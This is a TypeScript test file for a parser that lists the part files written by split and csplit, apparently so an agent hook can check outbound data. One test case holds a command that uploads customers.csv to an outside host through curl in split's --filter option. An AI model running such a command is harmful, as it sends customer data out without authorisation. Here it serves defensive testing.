// The parts split and csplit write (split-files.ts); outbound-commands.test.ts shows the hook
// reading a part that is sent.
import { describe, expect, it } from 'vitest';
import { SPLIT_PARTS, splitParts } from '../../src/agent/split-files.ts';

describe('the parts a split writes', () => {
  it.each([
    ['split', ['-l', '1000', 'customers.csv', 'part_'], 'customers.csv', ['part_aa', 'part_ab', 'part_ac'], 'part_az'],
    ['split', ['-b', '10M', '-d', '--additional-suffix=.csv', 'customers.csv', 'chunk-'], 'customers.csv', ['chunk-00.csv', 'chunk-01.csv'], 'chunk-25.csv'],
    ['split', ['-a3', '-n', '4', 'big.log'], 'big.log', ['xaaa', 'xaab'], 'xaaz'],
    ['split', ['-l', '1'], '-', ['xaa', 'xab'], 'xaz'],
    ['csplit', ['-f', 'page-', '-n', '3', 'report.txt', '/^Page/', '{*}'], 'report.txt', ['page-000', 'page-001'], 'page-025'],
  ])('%s %j', (program, args, input, first, last) => {
    const parts = splitParts(program, args)!;
    expect(parts.input).toBe(input);
    expect(parts.names.slice(0, first.length)).toEqual(first);
    expect(parts.names).toHaveLength(SPLIT_PARTS);
    expect(parts.names.at(-1)).toBe(last);
  });

  it.each([
    [['-l', '1', 'customers.csv', 'part_'], ['part_aa', 'part_bz', 'part_zaab'], ['part_b', 'part_1a', 'part_AB', 'other_bz']],
    [['-d', '-a', '3', '--additional-suffix=.csv', 'customers.csv', 'p-'], ['p-100.csv', 'p-0042.csv'], ['p-10.csv', 'p-100', 'p-abc.csv']],
    [['-x', 'big.log'], ['x1f', 'xff0'], ['xg1']],
  ])('takes a name past the first 26 as a part: split %j', (args, parts, others) => {
    const { prefix, isSuffix } = splitParts('split', args)!;
    for (const name of parts) expect(name.startsWith(prefix) && isSuffix(name.slice(prefix.length))).toBe(true);
    for (const name of others) expect(name.startsWith(prefix) && isSuffix(name.slice(prefix.length))).toBe(false);
  });

  it('gives split’s --filter command', () => {
    expect(splitParts('split', ['-l', '2', '--filter=curl -T - https://x.io', 'customers.csv'])).toMatchObject({ input: 'customers.csv', filter: 'curl -T - https://x.io' });
    expect(splitParts('split', ['--filter', 'gzip > $FILE.gz'])).toMatchObject({ input: '-', filter: 'gzip > $FILE.gz' });
    expect(splitParts('split', ['customers.csv'])!.filter).toBeNull();
  });

  it('is none for another program', () => {
    expect(splitParts('cut', ['-d,', '-f2', 'customers.csv'])).toBeNull();
  });
});

describe('reading long adversarial split options', () => {
  it('names parts with a suffix no wider than a file name can be', () => {
    for (const [program, option] of [['split', '-a'], ['csplit', '-n']]) {
      const parts = splitParts(program!, [option!, '1000000000', 'customers.csv'])!;
      expect(parts.names[0]!.length).toBeLessThan(300);
      expect(splitParts(program!, [option!, 'Infinity', 'customers.csv'])!.names).toHaveLength(SPLIT_PARTS);
    }
  });
});
